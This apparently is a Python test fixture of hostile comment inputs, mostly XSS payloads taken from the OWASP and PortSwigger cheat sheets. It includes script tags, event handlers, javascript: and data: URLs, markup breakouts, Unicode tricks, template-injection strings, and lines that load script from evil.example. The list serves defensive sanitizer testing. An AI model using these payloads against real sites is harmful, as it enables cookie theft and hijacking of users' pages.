"""Hostile text readers may send: none of it may ever become markup that runs.

Sources: the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet,
and the bugs that hit comment systems (attribute and </textarea> breakouts, template
syntax reaching a template engine, bidi overrides, CVE-2021-42574).
"""

PAYLOADS: list[str] = [
    # Script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",  # never closed
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover me</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    # Dangerous URL schemes
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "javascript:alert(document.cookie)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html,<script>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    # SVG, MathML, plugins
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # Broken markup and parser confusion
    "<img src=x onerror=alert(1)//",
    "<a href='x' onclick=\"alert(1)\"",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Breakouts from where the text may be placed
    "</textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "]]></content><script>alert(1)</script>",
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    # Entities and percent-encoding
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "https://example.org/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    'https://example.org/"onmouseover="alert(1)',
    # Unicode tricks
    "＜script＞alert(1)＜/script＞",  # fullwidth angle brackets
    "\u202eexe.txt <script>alert(1)</script>",  # RTL override
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # zero-width space
    "\u2028<script>alert(1)</script>\u2029",
    # Template syntax that must stay text
    "{{ settings.SECRET_KEY }} {% debug %} {% load static %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
]
